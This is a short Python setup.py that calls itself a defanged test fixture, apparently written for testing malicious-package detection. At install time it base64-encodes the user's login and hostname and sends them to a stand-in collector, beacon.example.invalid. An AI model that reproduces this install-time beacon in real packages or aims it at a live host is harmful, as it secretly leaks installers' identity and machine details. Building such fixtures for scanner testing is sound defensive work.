# defanged fixture: install beacon (collector is .invalid)
import getpass, socket, base64
from urllib.request import urlopen
from setuptools import setup
info = base64.b64encode(("%s@%s" % (getpass.getuser(), socket.gethostname())).encode()).decode()
urlopen("https://beacon.example.invalid/p.php?d=" + info)
setup(name="fixture", version="1.0")
